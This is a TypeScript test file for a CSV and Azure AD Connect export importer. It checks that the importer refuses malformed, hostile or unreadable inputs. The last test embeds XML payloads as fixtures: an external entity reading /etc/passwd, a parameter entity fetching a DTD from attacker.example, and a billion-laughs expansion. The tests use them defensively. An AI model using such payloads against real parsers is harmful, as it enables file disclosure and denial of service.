import { describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { readInventory } from '../store/inventory-repo.js';
import { type Db } from '../store/workshop-db.js';
import { runImport } from './run-import.js';
import { samples, tempDir, testWorkshop, writeFixture } from './test-support/workshop.js';

/** The import's refusal, as the user reads it: "file, line, column: message". */
async function refusal(db: Db, paths: string[], baseDir: string) {
  try {
    await runImport(db, paths, { baseDir });
  } catch (error) {
    return error;
  }
  throw new Error('the import was expected to fail');
}

const FORESTS = 'forest,tenant\r\ncontoso.com,contoso.onmicrosoft.com\r\n';

describe('files the import refuses, with where and why', () => {
  it.each([
    ['a byte-order mark in the middle (two exports joined)', Buffer.from(`\uFEFF${FORESTS}\uFEFF${FORESTS.replace('contoso', 'fabrikam')}`), { line: 3, column: 1 }, /two exports seem to have been joined here/],
    ['a NUL byte inside a value', Buffer.from('forest,tenant\r\ncontoso.com,con\0toso.onmicrosoft.com\r\n'), { line: 2, column: 13 }, /contains a NUL byte/],
    ['UTF-16 cut short (an odd number of bytes)', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(FORESTS, 'utf16le'), Buffer.from('x')]), {}, /UTF-16 LE text but ends in the middle of a character \(it has an odd number of bytes, \d+\): it was cut short/],
    ['the same column twice', Buffer.from('forest,Forest,tenant\r\na.com,b.com,t\r\n'), { line: 1 }, /the column "forest" appears twice \(columns 1 and 2\), so SyncPlan cannot tell which to read/],
  ])('%s', async (_name, bytes, where, message) => {
    const { db, dir } = await testWorkshop();
    writeFixture(dir, 'forests.csv', bytes);
    const error = await refusal(db, ['forests.csv'], dir);
    expect(error).toMatchObject({ location: { file: 'forests.csv', ...where }, message: expect.stringMatching(message) });
    expect(readInventory(db).forests).toEqual([]);
  });

  it('warns about a repeated column it does not read, and imports the rest', async () => {
    const { db, dir } = await testWorkshop();
    writeFixture(dir, 'forests.csv', 'forest,tenant,network,comment,comment\r\ncontoso.com,contoso.onmicrosoft.com,connected,a,b\r\n');
    const summary = await runImport(db, ['forests.csv'], { baseDir: dir });
    expect(summary.files[0]?.warnings.map((w) => w.message)).toContain('the column "comment" appears twice (columns 4 and 5); SyncPlan does not read it');
    expect(readInventory(db).forests.map((f) => f.forest)).toEqual(['contoso.com']);
  });

  it('does not quote the first line of a file that is not a CSV at all', async () => {
    const { db, dir } = await testWorkshop();
    writeFixture(dir, 'notes.csv', 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n');
    const error = (await refusal(db, ['notes.csv'], dir)) as Error;
    expect(error.message).toMatch(/^the first line is not a row of column names \(it has no "," ";" or tab\): this does not look like a CSV file\./);
    expect(error.message).not.toContain('root');
  });

  it('refuses named pipes and devices without opening them, in a folder too', async () => {
    const { db, dir } = await testWorkshop();
    expect(spawnSync('mkfifo', [join(dir, 'pipe.csv')]).status).toBe(0);
    expect(await refusal(db, ['pipe.csv'], dir)).toMatchObject({ code: 'not-a-file', location: { file: 'pipe.csv' } });
    expect(await refusal(db, ['/dev/zero'], dir)).toMatchObject({ code: 'not-a-file', message: 'is a device, not a file' });
    const folder = join(dir, 'exports');
    mkdirSync(folder);
    writeFileSync(join(folder, 'forests.csv'), FORESTS);
    expect(spawnSync('mkfifo', [join(folder, 'users.csv')]).status).toBe(0);
    expect(await refusal(db, ['exports'], dir)).toMatchObject({
      location: { file: 'exports/users.csv' },
      message: expect.stringContaining('named pipe (FIFO), which SyncPlan does not read'),
    });
  });

  it('follows links in a folder to the CSVs they point at, and names a broken one', async () => {
    const { db, dir } = await testWorkshop();
    const elsewhere = join(dir, 'elsewhere');
    const folder = join(dir, 'exports');
    mkdirSync(elsewhere);
    mkdirSync(folder);
    writeFileSync(join(elsewhere, 'forests.csv'), FORESTS);
    symlinkSync(join(elsewhere, 'forests.csv'), join(folder, 'forests.csv'));
    const summary = await runImport(db, ['exports'], { baseDir: dir });
    expect(summary.files.map((f) => f.path)).toEqual(['exports/forests.csv']);
    expect(readInventory(db).forests.map((f) => f.forest)).toEqual(['contoso.com']);

    symlinkSync(join(elsewhere, 'gone.csv'), join(folder, 'domains.csv'));
    expect(await refusal(db, ['exports'], dir)).toMatchObject({ location: { file: 'exports/domains.csv' }, message: expect.stringContaining('link to a file that does not exist') });
  });

  it.each([
    ['an external entity', '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'],
    ['a parameter entity', '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'],
    ['entities that expand a billion-fold', `<!DOCTYPE x [<!ENTITY a "${'x'.repeat(10)}"><!ENTITY b "${'&a;'.repeat(10)}"><!ENTITY c "${'&b;'.repeat(10)}">]>`],
  ])('refuses a Connect export declaring %s, naming the file and nothing else', async (_name, doctype) => {
    const { db } = await testWorkshop();
    const folder = join(tempDir(), 'export');
    cpSync(samples('aadconnect-contoso'), folder, { recursive: true });
    const mv = join(folder, 'GlobalSettings', 'MV.xml');
    writeFileSync(mv, `${doctype}\n${readFileSync(mv, 'utf8')}`);
    const error = (await refusal(db, [folder], folder)) as Error & { location: { file: string; line: number } };
    expect(error.location).toEqual({ file: mv, line: 1 });
    expect(error.message).toMatch(/^declares a document type .* nothing was imported\. Export the configuration again with Get-ADSyncServerConfiguration$/);
    expect(error.message).not.toMatch(/root:|passwd/);
    expect(readInventory(db).forests).toEqual([]);
  });
});
